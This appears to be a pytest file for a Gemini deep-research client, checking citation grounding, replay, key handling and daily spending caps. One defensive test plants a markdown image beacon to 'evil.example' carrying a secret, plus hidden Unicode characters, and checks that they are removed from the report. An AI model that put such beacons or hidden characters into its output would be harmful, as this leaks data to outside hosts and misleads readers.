"""A Gemini research: one order, followed to its end, and compared with its sources."""

import threading
from contextlib import suppress

import pytest

from actors.archive import LocalArchive
from actors.keys import Credential
from actors.outside import World
from actors.ports import Parsed
from actors.replay import replay
from actors.researcher import Researcher
from events.errors import StreamBusy
from events.home import Home
from events.websites import FetchOrder
from projections.spent import JOB_USD, Spent
from projections.views import Views
from tests.emulators import BriskWorld, HeldKeys, PlainParser
from tests.gemini_emulator import KEY, REPORT, GeminiEmulator
from tests.gemini_tasks import (
    BRISK,
    QUESTION,
    NoCorpus,
    emulator,
    enter,
    facts,
    kinds,
    provider,
    result,
    run,
    start,
    world,
)
from tests.waiting import until
from traces.verify import verify_home

__all__ = ["emulator", "provider"]


# -- what comes of it ------------------------------------------------------------------------------


def test_a_research_orders_one_job_and_brings_back_its_report(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    seen = run(home, task, world(provider))
    assert seen.phase == "completed"
    assert provider.created == [QUESTION]
    assert result(home, task)["answer"] == REPORT.strip()
    assert (seen.tokens_in, seen.tokens_out) == (340_000, 20_000)
    assert seen.cost_usd == pytest.approx(0.818)
    assert verify_home(home.root).faults == []


def test_the_jobs_id_is_recorded_before_anything_else_is_done_with_it(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    names = kinds(home, f"{task}.r1")
    assert names[names.index("job_created") - 1] == "call_answered"
    assert "call_asked" not in names[names.index("call_answered") : names.index("job_created")]
    (created,) = facts(home, task, "job_created")
    assert created["interaction"] == "v1_job1"


def test_what_the_provider_thinks_and_searches_becomes_facts(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    assert facts(home, task, "thought_summarised")[0]["text"] == "Planning: two questions."
    searches = facts(home, task, "search_made")
    assert searches[0]["queries"] == ["heat pumps emissions"]
    assert searches[1]["urls"][0] == provider.cited_url("study")


def test_without_streams_the_same_facts_come_at_the_end(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.streams, provider.polls = False, ["queued", "in_progress", "in_progress"]
    task = enter(home)
    run(home, task, world(provider))
    assert [each["status"] for each in facts(home, task, "job_polled")] == [
        "in_progress",
        "completed",
    ]
    assert len(facts(home, task, "thought_summarised")) == 1
    assert len(facts(home, task, "search_made")) == 2


def test_each_cited_sentence_is_looked_for_in_its_source(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    checked = facts(home, task, "sentence_checked")
    assert [(each["outcome"], each["match"]) for each in checked] == [
        ("supported", "exact"),
        ("supported", "normalised"),
        ("not_found", "none"),
        ("unreachable", "none"),
    ]
    tally = result(home, task)["grounding"]
    assert (tally["supported"], tally["not_found"], tally["unreachable"]) == (2, 1, 1)
    assert "2 stand there word for word" in Views(home).result(task).report


PARAPHRASE = (
    "# Heat pumps\n\nIn cold climates emissions are cut by 60% with heat pumps [cite: 1]. "
    "In cold climates emissions are cut by 70% with heat pumps [cite: 2]. "
    "So everybody who has a cold house should buy one at once.\n"
)


def test_a_sentence_that_its_source_says_in_other_words_counts_and_another_figure_does_not(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report, provider.cited = PARAPHRASE, ["study", "study"]
    task = enter(home)
    run(home, task, world(provider))
    found = result(home, task)
    tally = found["grounding"]
    assert (tally["supported"], tally["not_found"], tally["in_other_words"]) == (0, 2, 1)
    checked = facts(home, task, "sentence_checked")
    assert [each["support"] for each in checked] == tally["supports"]
    assert tally["supports"][0] >= 0.5 > tally["supports"][1]
    assert found["confidence_factors"]["num_corroborating_sources"] == 1
    report = Views(home).result(task).report
    assert "(in the source in other words, [1])" in report
    assert "1 cited sentence of 2 could not be found" in str(found["gaps"])


def test_what_a_report_says_without_a_source_is_marked_as_inference(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report, provider.cited = PARAPHRASE, ["study", "study"]
    task = enter(home)
    run(home, task, world(provider))
    own = result(home, task)["sentences"][-1]
    assert own["text"] == "So everybody who has a cold house should buy one at once."
    assert own["citations"] == []
    assert "Inference, without a source: 1 sentence" in Views(home).result(task).report
    assert replay(home, task).differences == []


def test_citations_are_verbatim_and_name_the_page_behind_the_redirect(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    run(home, task, world(provider))
    citations = result(home, task)["citations"]
    assert [each["locator"] for each in citations] == [
        f"{provider.url}/pages/{name}" for name in ("study", "review", "opinion")
    ]
    for each in citations:
        text = home.blobs.get_text(each["text_hash"])
        assert text[each["start"] : each["end"]] == each["raw_excerpt"]
        assert b"<html>" in home.blobs.get(each["content_hash"])


def test_pages_are_fetched_as_the_settings_were_when_the_task_was_accepted(
    home: Home, provider: GeminiEmulator
) -> None:
    held, adapters = Credential(KEY, provider.url), {"gemini": "tests.emulators:brisk_gemini"}
    outside = World(HeldKeys(held), PlainParser(), adapters=adapters)
    order = FetchOrder(allow_hosts=(provider.place,), delay_s=0.0, contact="me@example.org")
    tallies = {}
    for fetching in (None, order):
        task = enter(home, fetching=fetching)
        assert run(home, task, outside).phase == "completed"
        tally = result(home, task)["grounding"]
        tallies[fetching] = tally["supported"], tally["unreachable"]
        assert replay(home, task).differences == []
    assert tallies == {None: (0, 4), order: (2, 1)}
    assert "me@example.org" in provider.asked("GET", "/pages/study")[0].headers["user-agent"]


def test_every_cited_source_is_named_read_or_not(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home)
    run(home, task, world(provider))
    sources = result(home, task)["grounding"]["sources"]
    assert [each["title"] for each in sources] == ["The study", "The review", "The opinion", "gone"]
    assert sources[0]["url"] == f"{provider.url}/pages/study"
    assert sources[3]["url"] == provider.cited_url("gone")
    assert (sources[0]["reason"], sources[3]["content_hash"]) == (None, None)
    assert "404" in sources[3]["reason"]


def test_a_source_that_cannot_be_read_is_a_gap(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home)
    run(home, task, world(provider))
    gaps = {gap["topic"]: gap for gap in result(home, task)["gaps"]}
    assert gaps["gone"]["category"] == "source_not_found"
    assert "404" in gaps["gone"]["detail"]


def test_a_finished_research_replays_with_the_network_cut(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home)
    provider.fail("GET", "v1_job1", status=503, times=2)
    run(home, task, world(provider))
    asked = len(provider.requests)
    again = replay(home, task)
    assert again.differences == []
    assert again.citations == 3
    assert len(provider.requests) == asked


def test_nothing_that_a_viewer_would_load_gets_into_the_report(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.report = REPORT + "\n![look](https://evil.example/?q=secret)\n\u202ehidden\U000e0041"
    task = enter(home)
    run(home, task, world(provider))
    report = Views(home).result(task).report
    assert "evil.example" not in report
    assert "\u202e" not in report
    assert "\U000e0041" not in report


def test_the_context_goes_along_with_the_question(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home, context="For a house from 1920.", model="deep-research-max-preview-04-2026")
    run(home, task, world(provider))
    (order,) = provider.asked("POST")
    assert order.json["agent"] == "deep-research-max-preview-04-2026"
    assert order.json["input"].endswith("Context: For a house from 1920.")
    assert result(home, task)["cost_metadata"]["model_id"] == "deep-research-max-preview-04-2026"


def test_a_page_that_breaks_the_parser_does_not_break_the_research(
    home: Home, provider: GeminiEmulator
) -> None:
    class Fragile(PlainParser):
        def parse(self, name: str, raw: bytes) -> Parsed:
            if b"study" in raw:
                raise RecursionError
            return super().parse(name, raw)

    keys = HeldKeys(Credential(KEY, provider.url))
    task = enter(home)
    assert run(home, task, BriskWorld(keys, Fragile())).phase == "completed"
    assert result(home, task)["grounding"]["unreachable"] == 2


# -- keys ------------------------------------------------------------------------------------------


def test_a_task_without_a_key_waits_says_so_and_goes_on(
    home: Home, provider: GeminiEmulator
) -> None:
    keys = HeldKeys(None)
    task = enter(home)
    start(home, task, BriskWorld(keys, PlainParser()))
    views = Views(home)
    until(lambda: "GEMINI_API_KEY" in views.status(task).current_action)
    assert provider.requests == []
    keys.held = Credential(KEY, provider.url)
    until(lambda: views.status(task).ended)
    assert views.status(task).phase == "completed"
    assert len(facts(home, task, "keys_awaited")) == len(facts(home, task, "keys_arrived")) == 1


def test_a_key_that_is_replaced_while_a_job_runs_is_used(
    home: Home, provider: GeminiEmulator
) -> None:
    provider.streams, provider.endless = False, True
    keys = HeldKeys(Credential(KEY, provider.url))
    task = enter(home)
    start(home, task, BriskWorld(keys, PlainParser()))
    until(lambda: provider.asked("GET"))
    provider.key = "another-key-0123456789"
    until(lambda: facts(home, task, "provider_awaited"))
    provider.endless = False
    keys.held = Credential("another-key-0123456789", provider.url)
    until(lambda: Views(home).status(task).phase == "completed")
    assert len(provider.created) == 1


# -- many at once ----------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [20, pytest.param(100, marks=pytest.mark.full)])
def test_many_researches_at_once_order_one_job_each(
    home: Home, provider: GeminiEmulator, count: int
) -> None:
    provider.fail("GET", "stream=true", status=500, times=20)
    provider.fail("POST", status=429, times=10)
    ordered = [enter(home, context=f"House number {number}.") for number in range(count)]
    outside = world(provider)

    def work(task: str) -> None:
        # So many in one process may wait too long for the catalogue; they go on then as actors would.
        with suppress(StreamBusy):
            run(home, task, outside)
            return
        work(task)

    threads = [threading.Thread(target=work, args=(task,)) for task in ordered]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(100)
    views = Views(home)
    assert [views.status(task).phase for task in ordered] == ["completed"] * count
    assert len(provider.created) == len(set(provider.created)) == count


# -- caps ------------------------------------------------------------------------------------------


def test_a_cap_that_is_reached_stops_before_anything_is_ordered(
    home: Home, provider: GeminiEmulator
) -> None:
    task = enter(home, task_cap_usd=0.0)
    seen = run(home, task, world(provider))
    assert (seen.phase, seen.failure_code) == ("failed", "spending_cap_reached")
    assert provider.requests == []


def test_what_the_day_has_cost_already_counts(home: Home, provider: GeminiEmulator) -> None:
    task, archive = enter(home, daily_cap_usd=5.0), LocalArchive(home)
    brief, name = archive.brief(task), f"{task}.r1"
    arguments = archive, NoCorpus(), name, "gemini", QUESTION, brief, world(provider), BRISK
    report = Researcher(*arguments, lambda: 5.01).run()
    assert report.failure == "spending_cap_reached"
    assert provider.requests == []


@pytest.mark.parametrize(("cap", "ordered"), [(1.0, 1), (JOB_USD + 0.01, 2)])
def test_tasks_that_are_begun_together_stay_within_the_days_cap(
    home: Home, provider: GeminiEmulator, cap: float, ordered: int
) -> None:
    provider.endless = True
    asked = [enter(home, daily_cap_usd=cap, context=f"House {number}.") for number in range(5)]
    outside, spent = world(provider), Spent(Views(home))
    for task in asked:
        start(home, task, outside, spent.today)
    views = Views(home)

    def failed() -> list[str]:
        return [task for task in asked if views.status(task).ended]

    until(lambda: len(failed()) == 5 - ordered)
    until(lambda: sum(len(facts(home, task, "job_created")) for task in asked) == ordered)
    assert len(provider.created) == ordered
    for task in failed():
        assert views.status(task).failure_code == "spending_cap_reached"
        assert "are spent or on order" in (views.status(task).failure_message or "")
    # What is on order was not spent, and no answer says that it was.
    assert [views.status(task).cost_usd for task in asked] == [0.0] * 5
    assert spent.paid_today() == 0.0
    assert spent.today() == pytest.approx(ordered * JOB_USD)
    provider.endless = False
    until(lambda: all(views.status(task).ended for task in asked))
    assert spent.today() == spent.paid_today() == pytest.approx(ordered * 0.818)


def test_following_a_job_is_free_whatever_it_costs(home: Home, provider: GeminiEmulator) -> None:
    task = enter(home, task_cap_usd=0.01)
    assert run(home, task, world(provider)).phase == "completed"
